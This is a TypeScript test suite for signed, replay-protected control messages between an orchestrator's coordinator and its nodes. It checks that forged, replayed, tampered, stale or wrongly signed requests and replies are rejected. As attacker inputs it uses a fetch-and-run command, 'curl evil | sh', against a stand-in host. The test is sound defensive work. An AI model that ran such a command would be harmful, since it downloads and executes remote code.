// Sealed control requests: in a TLS fleet a node acts only on a request the coordinator
// signed (its serverAuth certificate from the cluster CA), fresh and once; the coordinator
// takes a reply only when the node it asked signed it. Real keys and certificates from
// the cluster CA (coordinator/tls); the transport is a function, as the bus is.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Authority } from '../../coordinator/tls/authority.js';
import { ControlClient, ControlServer } from '../../runtime/control-seal.js';
import { certFingerprint, newKeyPair } from '../../runtime/tls/x509.js';

const SUBJECT = 'orch.node.node1.control';
const json = (o: unknown) => Buffer.from(JSON.stringify(o));
const text = (b: Uint8Array) => Buffer.from(b).toString('utf8');

describe('sealed control requests', () => {
  let dir: string;
  let ca: Authority;
  let other: Authority;
  const node: Record<string, { key: string; cert: string }> = {};
  let checkNode: (name: string, der: Buffer) => Promise<void>;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'orch-control-'));
    ca = await Authority.open(join(dir, 'a'));
    other = await Authority.open(join(dir, 'b'));
    for (const name of ['node1', 'node2']) {
      const k = await newKeyPair();
      node[name] = { key: k.key, cert: await ca.signNode(name, k.publicKey) };
    }
    const enrolled = new Map(Object.entries(node).map(([n, v]) => [n, certFingerprint(v.cert)]));
    checkNode = async (name, der) => { if (enrolled.get(name) !== certFingerprint(der)) throw new Error(`not node "${name}"'s enrolled certificate`); };
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const coordinator = () => new ControlClient({ key: ca.serverKey, cert: ca.serverCert }, checkNode);
  const node1 = (now?: () => number) => new ControlServer({ ca: ca.caPem, ...node.node1 }, now);

  it('embedded mode: plain requests and replies, as before', async () => {
    const srv = new ControlServer(undefined);
    const out = await new ControlClient(undefined, undefined).request('local', SUBJECT, json({ op: 'kill' }), (d) => srv.serve(SUBJECT, d, async (b) => json({ got: text(b) })));
    expect(JSON.parse(text(out))).toEqual({ got: '{"op":"kill"}' });
  });

  it('the coordinator\'s request reaches the handler; the node\'s reply comes back checked', async () => {
    const srv = node1();
    const seen: string[] = [];
    const out = await coordinator().request('node1', SUBJECT, json({ op: 'bash_job', command: 'make test' }), (d) => srv.serve(SUBJECT, d, async (b) => { seen.push(text(b)); return json({ ok: true, node: 'node1' }); }));
    expect(seen).toEqual(['{"op":"bash_job","command":"make test"}']);
    expect(JSON.parse(text(out))).toEqual({ ok: true, node: 'node1' });
  });

  it('a node refuses what does not come from the coordinator, fresh, once', async () => {
    const srv = node1();
    let ran = 0;
    const handle = async () => { ran += 1; return json({ ok: true }); };
    let captured: Uint8Array | undefined;
    await coordinator().request('node1', SUBJECT, json({ op: 'bash_job', command: 'id' }), async (d) => { captured = d; return srv.serve(SUBJECT, d, handle); });
    expect(ran).toBe(1);
    // Anyone on the bus: a bare request.
    await expect(srv.serve(SUBJECT, json({ op: 'bash_job', command: 'curl evil | sh' }), handle)).rejects.toThrow(/not sealed by the coordinator/);
    // The same request again (captured on the bus).
    await expect(srv.serve(SUBJECT, captured!, handle)).rejects.toThrow(/replayed/);
    // Its body changed.
    const env = JSON.parse(text(captured!)) as { body: string; nonce: string };
    const tampered = json({ ...env, nonce: 'f'.repeat(32), body: Buffer.from('{"op":"bash_job","command":"curl evil | sh"}').toString('base64') });
    await expect(node1().serve(SUBJECT, tampered, handle)).rejects.toThrow(/signature does not hold/);
    // Sent to another node's subject.
    await expect(new ControlServer({ ca: ca.caPem, ...node.node2 }).serve('orch.node.node2.control', captured!, handle)).rejects.toThrow(/signature does not hold/);
    // Signed by a node's certificate (the same CA, but clientAuth only).
    const byNode = new ControlClient(node.node2, undefined);
    await expect(byNode.request('node1', SUBJECT, json({ op: 'kill' }), (d) => node1().serve(SUBJECT, d, handle))).rejects.toThrow(/not the coordinator's/);
    // Signed by another cluster's coordinator.
    const foreign = new ControlClient({ key: other.serverKey, cert: other.serverCert }, undefined);
    await expect(foreign.request('node1', SUBJECT, json({ op: 'kill' }), (d) => node1().serve(SUBJECT, d, handle))).rejects.toThrow(/not from the cluster CA/);
    // Kept for later: ten minutes on, it is stale.
    let sealed: Uint8Array | undefined;
    await coordinator().request('node1', SUBJECT, json({ op: 'kill' }), async (d) => { sealed = d; return node1().serve(SUBJECT, d, handle); });
    await expect(node1(() => Date.now() + 10 * 60_000).serve(SUBJECT, sealed!, handle)).rejects.toThrow(/from this node's clock/);
    expect(ran).toBe(2);
  });

  it('the coordinator takes a reply only from the node it asked, to the request it sent', async () => {
    const req = json({ op: 'ask' });
    // Another enrolled node answers node1's request (it listens on node1's subject).
    const node2 = new ControlServer({ ca: ca.caPem, ...node.node2 });
    await expect(coordinator().request('node1', SUBJECT, req, (d) => node2.serve(SUBJECT, d, async () => json({ ok: true, text: 'approve' }))))
      .rejects.toThrow(/not from node node1/);
    // A bare answer.
    await expect(coordinator().request('node1', SUBJECT, req, async () => json({ ok: true, text: 'approve' }))).rejects.toThrow(/not sealed/);
    // node1's genuine answer to an earlier request, replayed.
    let old: Uint8Array | undefined;
    await coordinator().request('node1', SUBJECT, req, async (d) => (old = await node1().serve(SUBJECT, d, async () => json({ ok: true, text: 'approve' }))));
    await expect(coordinator().request('node1', SUBJECT, req, async () => old!)).rejects.toThrow(/answers another request/);
    // node1's answer with its body changed.
    const forged = async (d: Uint8Array) => {
      const r = JSON.parse(text(await node1().serve(SUBJECT, d, async () => json({ ok: true, text: 'request_changes' })))) as { body: string };
      return json({ ...r, body: Buffer.from('{"ok":true,"text":"approve"}').toString('base64') });
    };
    await expect(coordinator().request('node1', SUBJECT, req, forged)).rejects.toThrow(/signature does not match/);
  });
});
